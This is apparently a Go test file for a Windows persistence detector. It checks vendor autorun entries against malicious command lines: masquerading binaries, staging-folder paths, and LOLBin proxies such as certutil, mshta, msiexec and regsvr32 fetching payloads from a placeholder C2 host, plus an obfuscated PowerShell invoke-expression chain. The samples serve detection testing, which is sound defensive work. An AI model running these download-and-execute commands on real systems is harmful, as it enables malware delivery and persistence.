package payload

import (
	"slices"
	"strings"
	"testing"
	"time"
)

var testEnv = map[string]string{
	"SYSTEMROOT": `C:\Windows`, "WINDIR": `C:\Windows`, "PROGRAMFILES": `C:\Program Files`, "PROGRAMDATA": `C:\ProgramData`,
	"APPDATA": `C:\Users\alice\AppData\Roaming`, "LOCALAPPDATA": `C:\Users\alice\AppData\Local`, "TEMP": `C:\Users\alice\AppData\Local\Temp`,
	"PUBLIC": `C:\Users\Public`, "COMSPEC": `C:\Windows\system32\cmd.exe`,
}

func TestImageIndicators(t *testing.T) {
	tests := []struct {
		name, value, data string
		want              []string
	}{
		// Benign: what vendors install.
		{"security health", "SecurityHealth", `%windir%\system32\SecurityHealthSystray.exe`, nil},
		{"defender", "WindowsDefender", `"%ProgramFiles%\Windows Defender\MSASCuiL.exe"`, nil},
		{"onedrive per user", "OneDrive", `"C:\Users\alice\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background`, nil},
		{"teams squirrel", "com.squirrel.Teams.Teams", `"C:\Users\alice\AppData\Local\Microsoft\Teams\Update.exe" --processStart "Teams.exe"`, nil},
		{"discord", "Discord", `"C:\Users\alice\AppData\Local\Discord\Update.exe" --processStart Discord.exe`, nil},
		{"spotify", "Spotify", `"C:\Users\alice\AppData\Roaming\Spotify\Spotify.exe" --autostart --minimized`, nil},
		{"zoom", "Zoom", `"C:\Users\alice\AppData\Roaming\Zoom\bin\Zoom.exe" --autostart`, nil},
		{"realtek driverstore", "RtkAudUService", `"C:\Windows\System32\DriverStore\FileRepository\realtekservice.inf_amd64_4b1ef1cbbea2b5f1\RtkAudUService64.exe" -background`, nil},
		{"logitech rundll32", "LogitechDownloadAssistant", `C:\Windows\system32\rundll32.exe C:\Windows\System32\LogiLDA.dll,LogiFetch`, nil},
		{"explorer shell", "Shell", `explorer.exe`, nil},
		{"onedrive cleanup", "Delete Cached Update Binary", `C:\Windows\system32\cmd.exe /q /c del /q "C:\Users\alice\AppData\Local\Microsoft\OneDrive\Update\OneDriveSetup.exe"`, nil},
		{"printer applet", "x", `rundll32.exe printui.dll,PrintUIEntry /ga /n\\srv\p`, nil},
		{"runonceex processing", "x", `rundll32.exe iernonce.dll,RunOnceExProcess`, nil},
		{"hp printer monitor", "x", `rundll32.exe C:\Windows\system32\spool\DRIVERS\x64\3\hpmsn140.dll,MonitorPrintJobStatus`, nil},
		{"chcp", "x", `chcp.com 65001`, nil},
		{"store notepad", "x", `"C:\Program Files\WindowsApps\Microsoft.WindowsNotepad_11.2312.18.0_x64__8wekyb3d8bbwe\Notepad\Notepad.exe"`, nil},
		{"script code is no image", "", `/* comment */ try{w=new ActiveXObject("WScript.Shell")}catch(e){}`, nil},
		{"edge package name", "x", `"C:\Program Files\WindowsApps\Microsoft.WindowsTerminal_1.18.3181.0_x64__8wekyb3d8bbwe\wt.exe"`, nil},

		// Malicious: public tooling and malware reports.
		{"svchost in appdata", "svchost", `C:\Users\alice\AppData\Roaming\svchost.exe`, []string{"masquerading_image", "staging_folder_image"}},
		{"csrss in programdata sub", "x", `C:\ProgramData\Microsoft\csrss.exe`, []string{"masquerading_image"}},
		{"explorer in temp", "x", `%TEMP%\explorer.exe`, []string{"masquerading_image", "staging_folder_image"}},
		{"users public", "x", `C:\Users\Public\Libraries\update.exe`, []string{"staging_folder_image"}},
		{"programdata root", "x", `C:\ProgramData\winupd.exe`, []string{"staging_folder_image"}},
		{"recycle bin", "x", `C:\$Recycle.Bin\S-1-5-21-1\host.exe`, []string{"staging_folder_image"}},
		{"random names", "x", `C:\Users\alice\AppData\Local\Xk3vQp9RtL2w\mNz7qTb.exe`, []string{"random_name"}},
		{"random lowercase", "x", `C:\ProgramData\Sync\xkqvtzbrmw.exe`, []string{"random_name"}},
		{"onedrive elsewhere", "OneDrive", `C:\Users\alice\AppData\Roaming\Microsoft\Windows\od.exe`, []string{"autorun_name_mismatch"}},
		{"security health powershell", "SecurityHealth", `powershell -w hidden -c calc`, []string{"autorun_name_mismatch"}},
		{"screen saver", "x", `C:\Users\alice\AppData\Roaming\Microsoft\ss.scr /s`, []string{"unusual_extension"}},
		{"double extension", "x", `C:\Users\alice\Documents\invoice.pdf.exe`, []string{"unusual_extension"}},
		{"control applet", "x", `control.exe C:\Users\alice\AppData\Local\x.cpl`, []string{"unusual_extension"}},
		{"rundll32 bare dll", "x", `rundll32.exe update.dll,Start`, []string{"rundll32_unusual_dll"}},
		{"rundll32 public dll", "x", `rundll32 C:\Users\Public\p.dat,DllRegisterServer`, []string{"rundll32_unusual_dll"}},
		{"pcalua", "x", `pcalua.exe -a C:\Users\Public\x.exe`, []string{"lolbin_proxy", "staging_folder_image", "user_writable_image"}},
		{"forfiles", "x", `forfiles /p c:\windows\system32 /m notepad.exe /c "cmd /c C:\Users\Public\x.exe"`, []string{"lolbin_proxy", "staging_folder_image"}},
		{"cmd chain second command", "x", `cmd.exe /c "del /q C:\Users\alice\x.log & start /b C:\Users\Public\run.exe"`, []string{"staging_folder_image", "user_writable_image"}},
		{"cmd start public", "x", `cmd.exe /c start "" /min C:\Users\Public\run.exe`, []string{"staging_folder_image", "user_writable_image"}},
		{"conhost headless", "x", `conhost.exe --headless powershell -c calc`, []string{"lolbin_proxy"}},
		{"explorer path", "x", `explorer.exe C:\ProgramData\a.exe`, []string{"staging_folder_image"}},
		{"url.dll", "x", `rundll32.exe url.dll,FileProtocolHandler C:\Users\alice\AppData\Local\Temp\p.exe`, []string{"lolbin_proxy", "staging_folder_image"}},
		{"wmic", "x", `wmic process call create "C:\Windows\Temp\svchost.exe"`, []string{"lolbin_proxy", "masquerading_image", "staging_folder_image"}},
		{"msiexec http", "x", `msiexec /q /i http://c2.example.invalid/a.msi`, []string{"lolbin_proxy"}},
		{"certutil", "x", `certutil -urlcache -split -f http://c2.example.invalid/a a.exe`, []string{"lolbin_proxy"}},
		{"mshta", "x", `mshta.exe http://c2.example.invalid/a.hta`, []string{"lolbin_proxy"}},
		{"wscript public", "x", `wscript.exe //B C:\Users\Public\x.js`, []string{"lolbin_proxy"}},
		{"msbuild", "x", `C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe C:\Users\Public\a.xml`, []string{"lolbin_proxy"}},
		{"regsvr32 /i: without scrobj", "x", `regsvr32 /s /i:C:\Users\Public\cfg.txt C:\Users\Public\x.dll`, []string{"lolbin_proxy"}},
		// Scriptlets are lolbin_script (TextIndicators): not counted twice.
		{"regsvr32 scriptlet", "x", `regsvr32 /s /n /u /i:http://c2.example.invalid/file.sct scrobj.dll`, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := ImageIndicators(tt.value, tt.data, testEnv)
			if tt.want == nil {
				if got != nil {
					t.Errorf("ImageIndicators(%q) = %q, want none", tt.data, got)
				}
				return
			}
			for _, id := range tt.want {
				if !slices.Contains(got, id) {
					t.Errorf("ImageIndicators(%q) = %q, lacks %s", tt.data, got, id)
				}
			}
		})
	}
}

func TestRandomWord(t *testing.T) {
	for _, s := range []string{"Xk3vQp9RtL2w", "mNz7qTb", "kJqVwNtR", "xkqvtzbrmw"} {
		if !randomWord(s) {
			t.Errorf("randomWord(%q) = false", s)
		}
	}
	for _, s := range []string{"MicrosoftEdgeUpdate", "RtkAudUService64", "SynTPEnh", "MSASCuiL", "iTunesHelper", "igfxpers",
		"4b1ef1cbbea2b5f1", "0A1B2C3D4E5F60718293A4B5C6D7E8F9", "8wekyb3d8bbwe", "nvspcap64", "RtkNGUI64", "vmtoolsd", "WindowsPowerShell", "GoogleDriveFS", "Framework64", "jusched",
		"msmpengsvc", "KiesTrayAgent", "iCloudServices", "TpKnrres", "ApnTBMon", "RAVBg64", "hpqtra08", "PROGRA", "nvbackend"} {
		if randomWord(s) {
			t.Errorf("randomWord(%q) = true", s)
		}
	}
}

// TestImageIndicatorsUnexpanded: a Sysmon event carries the command as
// written and no environment; folder variables still count.
func TestImageIndicatorsUnexpanded(t *testing.T) {
	for _, tt := range []struct {
		data string
		want []string
	}{
		{`%AppData%\svchost.exe`, []string{"masquerading_image", "staging_folder_image"}},
		{`%%PUBLIC%%\x.exe`, []string{"staging_folder_image"}},
		{`"%LOCALAPPDATA%\Microsoft\Teams\Update.exe" --processStart "Teams.exe"`, nil},
	} {
		got := ImageIndicators("x", tt.data, nil)
		if !slices.Equal(got, tt.want) {
			t.Errorf("ImageIndicators(%q, no env) = %q, want %q", tt.data, got, tt.want)
		}
	}
}

func TestCommandIndicators(t *testing.T) {
	data := `c^m^d /c start "" /min C:\Users\Public\run.exe & p^owershell -w hidden -c "&(('ie')+'x') $c"`
	got := CommandIndicators("OneDrive", data, testEnv)
	want := []string{"autorun_name_mismatch", "hidden_window", "invoke_expression", "staging_folder_image", "user_writable_image"}
	if !slices.Equal(got, want) {
		t.Errorf("CommandIndicators = %q, want %q", got, want)
	}
	union := append(TextIndicators(data), ImageIndicators("OneDrive", data, testEnv)...)
	slices.Sort(union)
	if !slices.Equal(got, slices.Compact(union)) {
		t.Errorf("CommandIndicators %q differs from TextIndicators + ImageIndicators %q", got, union)
	}
}

// TestImageIndicatorsHugeLines: 1 MiB command lines of nested proxies and
// chains stay within the work bounds.
func TestImageIndicatorsHugeLines(t *testing.T) {
	if testing.Short() {
		t.Skip("1 MiB inputs")
	}
	const size = 1 << 20
	rep := func(unit string) string { return strings.Repeat(unit, size/len(unit)+1)[:size] }
	for name, line := range map[string]string{
		"nested cmd": rep("cmd /c "),
		"chains":     "cmd /c " + rep("a.exe & "),
		"quotes":     "cmd /c " + rep(`"x & `),
		"forfiles":   rep(`forfiles /c "`),
		"start":      rep("start /b "),
	} {
		start := time.Now()
		ImageIndicators("OneDrive", line, nil)
		elapsed := time.Since(start)
		t.Logf("%s: %v", name, elapsed)
		if elapsed > 3*time.Second {
			t.Errorf("%s: took %v", name, elapsed)
		}
	}
}

// randomLookingByFields is randomLooking as it was, on the slices
// strings.FieldsFunc makes; FuzzRandomLooking checks the slice-free one
// against it.
func randomLookingByFields(image string) bool {
	runs := func(s string) []string {
		return strings.FieldsFunc(s, func(r rune) bool {
			return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9')
		})
	}
	lower := func(s string) bool {
		for _, run := range runs(s) {
			if len(run) < 10 {
				continue
			}
			vowels, letters := 0, 0
			for i := 0; i < len(run); i++ {
				c := run[i] | 0x20
				if c < 'a' || c > 'z' {
					letters = -1
					break
				}
				letters++
				if strings.IndexByte("aeiouy", c) >= 0 {
					vowels++
				}
			}
			if letters > 0 && vowels*100 < letters*10 {
				return true
			}
		}
		return false
	}
	word := func(s string) bool {
		for _, run := range runs(s) {
			if len(run) < 6 || isHex(run) {
				continue
			}
			flips := 0
			for i := 1; i < len(run); i++ {
				if charClass(run[i]) != charClass(run[i-1]) {
					flips++
				}
			}
			if flips >= 4 && flips*10 >= 6*(len(run)-1) {
				return true
			}
			if lower(strings.ToLower(run)) && (run == strings.ToLower(run) || run == strings.ToUpper(run)) {
				return true
			}
		}
		return false
	}
	parts := strings.FieldsFunc(image, func(r rune) bool { return r == '\\' || r == '/' })
	for i, part := range parts {
		if i == len(parts)-1 {
			if e := extOf(part); e != "" {
				part = part[:len(part)-len(e)]
			}
		}
		if strings.HasPrefix(part, "%") || strings.HasSuffix(part, ":") {
			continue
		}
		if word(part) {
			return true
		}
	}
	return false
}

func FuzzRandomLooking(f *testing.F) {
	for _, s := range []string{`C:\Users\a\AppData\Xk3vQp9RtL2w\mNz7qTb.exe`, `\\srv\share\\bcdfghjklmnp\`, `%APPDATA%\qwrtzpsdfgh.exe/`, "C:/\xe9Xk3vQp9R\xffL2w.js", `//`, ``} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, image string) {
		if got, want := randomLooking(image), randomLookingByFields(image); got != want {
			t.Fatalf("randomLooking(%q) = %v, by fields %v", image, got, want)
		}
	})
}
